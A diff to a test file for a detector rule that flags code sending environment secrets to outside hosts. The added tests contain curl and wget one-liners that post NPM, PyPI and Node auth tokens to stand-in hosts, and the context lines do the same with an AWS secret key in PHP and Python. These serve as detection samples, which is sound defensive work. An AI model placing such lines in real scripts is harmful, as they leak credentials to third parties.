@@ -3401,6 +3401,16 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
     expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
   });
+  it('reads a shell script too: a registry or product token on a curl or wget line, as data or in the URL, to another host', () => {
+    expect(sent('scripts/notify.sh', ['curl -s -X POST https://stats.pkg-insights.dev/publish -d "{\\"k\\":\\"$NODE_AUTH_TOKEN\\"}"'])?.severity).toBe('high');
+    expect(sent('scripts/notify.sh', ['wget -q --post-data "t=${NPM_TOKEN}" https://metrics.build-insights.net/c'])?.severity).toBe('high');
+    expect(sent('scripts/ping.sh', ['curl -fsS "https://hooks.release-notify.dev/v1?t=$PYPI_API_TOKEN" >/dev/null'])?.severity).toBe('high');
+  });
+  it('is quiet on a shell line that gives a token to its own service, as a header or user, a URL it does not show, or a secret read on another line', () => {
+    expect(sent('scripts/upload.sh', ['curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', 'curl -F "token=$SONAR_TOKEN" https://sonarcloud.io/api/ce/submit'])).toBeUndefined();
+    expect(sent('scripts/release.sh', ['curl -H "Authorization: token $GITHUB_TOKEN" -d @notes.json https://api.acme-release.dev/v1', 'curl -u "$NEXUS_USER:$NEXUS_PASSWORD" -T app.zip https://nexus.acme.dev/repository/raw/'])).toBeUndefined();
+    expect(sent('scripts/notify.sh', ['curl -X POST -d "{\\"text\\":\\"deployed\\"}" "$SLACK_WEBHOOK_URL"', 'export NPM_TOKEN="$NPM_TOKEN"', 'curl -d @payload.json https://api.acme-status.dev/release'])).toBeUndefined();
+  });
   it('is quiet on a GET that takes its own service\'s key in the query string', () => {
     expect(sent('pkg/weather.py', ['r = requests.get(f"https://api.openweathermap.org/data/2.5/weather?q={city}&appid={os.environ[\'OPENWEATHERMAP_API_KEY\']}")'])).toBeUndefined();
     expect(sent('src/Maps.php', ['    $r = file_get_contents("https://maps.googleapis.com/maps/api/geocode/json?address=" . urlencode($a) . "&key=" . getenv("GOOGLE_MAPS_API_KEY"));'])).toBeUndefined();
